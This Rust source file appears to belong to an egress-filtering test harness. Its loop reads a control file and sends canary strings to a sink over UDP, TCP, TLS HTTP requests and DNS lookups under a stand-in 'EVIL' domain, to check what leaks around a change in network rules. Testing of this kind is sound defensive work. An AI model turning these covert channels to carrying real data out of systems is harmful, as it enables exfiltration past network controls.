//! A sender at full speed for moments of change. What it sends stands in a file, so that the host can tell what was
//! sent before the moment from what was sent after it, on the same socket.

use std::fs;
use std::io::Write;
use std::net::{Ipv4Addr, TcpStream, UdpSocket};
use std::path::Path;
use std::time::Duration;

use super::kept::Others;
use super::{dns, send, tls};
use crate::catalogue::names::{BRIEF, EVIL};

/// The ports of the sink.
const UDP: u16 = 9999;
const TCP: u16 = 9000;
/// Between two rounds.
const PAUSE: Duration = Duration::from_micros(500);
/// Between two looks into an empty file.
const IDLE: Duration = Duration::from_millis(10);
/// How long a connection may take.
const CONNECT: Duration = Duration::from_millis(100);

/// How many datagrams of the fast sender leave between two looks into the file.
const BURST: usize = 64;

/// Sends what the file says, a way and a canary, for as long as it lives. What a way has opened it keeps.
pub fn run(file: &Path, sink: Ipv4Addr) -> ! {
    let udp = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok();
    let mut tcp: Option<TcpStream> = None;
    let mut session: Option<tls::Session> = None;
    let mut others = Others::new(sink);
    loop {
        let text = fs::read_to_string(file).unwrap_or_default();
        match text.trim().split_once(' ') {
            Some(("udp", canary)) => {
                let _ = udp.as_ref().map(|socket| socket.send_to(canary.as_bytes(), (sink, UDP)));
            }
            Some(("fast", canary)) => {
                for _ in 0..BURST {
                    let _ = udp.as_ref().map(|socket| socket.send_to(canary.as_bytes(), (sink, UDP)));
                }
                continue;
            }
            Some(("grant", canary)) => {
                let open = || tls::open(send::resolve(BRIEF, 443)?, Some(BRIEF));
                session = session.or_else(|| open().ok());
                let request = format!("GET /{canary} HTTP/1.1\r\nHost: {BRIEF}\r\n\r\n");
                // Without an answer it goes on: what was written may still be on its way.
                let written = session.as_mut().map(|stream| stream.write_all(request.as_bytes()));
                let _ = session.as_mut().map(send::hear);
                if !matches!(written, Some(Ok(()))) {
                    session = None;
                }
            }
            Some(("dns", canary)) => {
                let question = dns::query(&format!("{canary}.{EVIL}"), 1);
                let _ = udp.as_ref().map(|socket| socket.send_to(&question, (sink, 53)));
                let _ = dns::resolver().map(|to| udp.as_ref().map(|socket| socket.send_to(&question, to)));
            }
            Some(("tcp", canary)) => {
                tcp = tcp.or_else(|| TcpStream::connect_timeout(&(sink, TCP).into(), CONNECT).ok());
                let sent = tcp.as_mut().map(|stream| {
                    let _ = stream.set_write_timeout(Some(send::ANSWER));
                    stream.write_all(canary.as_bytes())
                });
                if !matches!(sent, Some(Ok(()))) {
                    tcp = None;
                }
            }
            Some((way, canary)) if others.send(way, canary) => {}
            _ => {
                std::thread::sleep(IDLE);
                continue;
            }
        }
        std::thread::sleep(PAUSE);
    }
}
